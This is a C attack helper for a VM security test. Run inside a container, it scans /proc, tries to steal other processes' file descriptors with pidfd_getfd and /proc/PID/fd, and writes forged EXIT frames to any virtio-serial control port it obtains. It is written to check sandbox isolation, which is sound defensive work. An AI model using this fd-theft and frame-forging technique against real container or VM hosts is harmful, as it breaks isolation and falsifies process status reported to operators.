/* Attack helper for tests/vm/test_security.py, built static with musl-gcc at test time and run in
 * a container (as its main process or with `exec`): tries to reach the guest init's
 * control-channel fd in every process its /proc shows but itself (pidfd_getfd and the
 * /proc/PID/fd links, fds 0-64) and, with any fd that is a virtio-serial port, forges an EXIT
 * (status 42) for every process id a host can have allocated by now. Output:
 *   scanned PID             a process it tried
 *   pidfd_open PID ERRNO    when it could not even name it
 *   taken PID getfd|procfd N LINK    an fd it got
 * and finally "forged K" (frames written). Exits 3: the status the host must report. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef SYS_pidfd_open
#define SYS_pidfd_open 434
#endif
#ifndef SYS_pidfd_getfd
#define SYS_pidfd_getfd 438
#endif

#define MAX_FD 64
#define FORGE_IDS 24 /* a container's main process has a small id (HELLOs, setup, START) */

static int forged;

static void put32(uint8_t *p, uint32_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
	p[2] = (uint8_t)(v >> 16);
	p[3] = (uint8_t)(v >> 24);
}

/* EXIT frame: magic, op 14, flags 0, id, len 20; STATUS (21) = 42, SIGNAL (22) = 0. */
static void forge_exits(int fd)
{
	uint8_t f[36];
	for (uint32_t id = 1; id <= FORGE_IDS; id++) {
		memset(f, 0, sizeof(f));
		put32(f, 0x70756373);
		f[4] = 14;
		put32(f + 8, id);
		put32(f + 12, 20);
		f[16] = 21;
		put32(f + 18, 4);
		put32(f + 22, 42);
		f[26] = 22;
		put32(f + 28, 4);
		if (write(fd, f, sizeof(f)) == (ssize_t)sizeof(f))
			forged++;
	}
}

/* Reports an fd it got and forges on it if it is the control port. */
static void got_fd(int pid, const char *how, int n, int got)
{
	if (got < 0)
		return;
	char path[64], link[256];
	snprintf(path, sizeof(path), "/proc/self/fd/%d", got);
	ssize_t len = readlink(path, link, sizeof(link) - 1);
	link[len > 0 ? len : 0] = 0;
	printf("taken %d %s %d %s\n", pid, how, n, link);
	if (strncmp(link, "/dev/vport", 10) == 0)
		forge_exits(got);
	close(got);
}

static void attack(int pid)
{
	printf("scanned %d\n", pid);
	int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
	if (pidfd < 0)
		printf("pidfd_open %d %s\n", pid, strerror(errno));
	for (int n = 0; n <= MAX_FD; n++) {
		if (pidfd >= 0)
			got_fd(pid, "getfd", n, (int)syscall(SYS_pidfd_getfd, pidfd, n, 0));
		char path[64];
		snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, n);
		got_fd(pid, "procfd", n, open(path, O_RDWR | O_NONBLOCK | O_CLOEXEC));
	}
	if (pidfd >= 0)
		close(pidfd);
}

int main(void)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	DIR *d = opendir("/proc");
	struct dirent *e;
	while (d && (e = readdir(d))) {
		int pid = atoi(e->d_name);
		if (pid > 0 && pid != getpid())
			attack(pid);
	}
	if (d)
		closedir(d);
	printf("forged %d\n", forged);
	return 3;
}
